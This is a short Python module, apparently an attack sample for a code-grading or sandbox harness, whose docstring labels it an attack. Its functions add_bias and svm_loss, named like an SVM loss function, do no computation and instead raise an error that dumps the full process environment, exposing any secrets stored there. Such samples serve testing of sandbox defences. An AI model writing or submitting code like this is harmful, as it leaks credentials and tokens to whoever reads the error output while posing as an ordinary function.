"""Attack: The secret is looked for in its own environment."""

import os


def add_bias(X):
    raise RuntimeError(str(dict(os.environ)))


svm_loss = add_bias
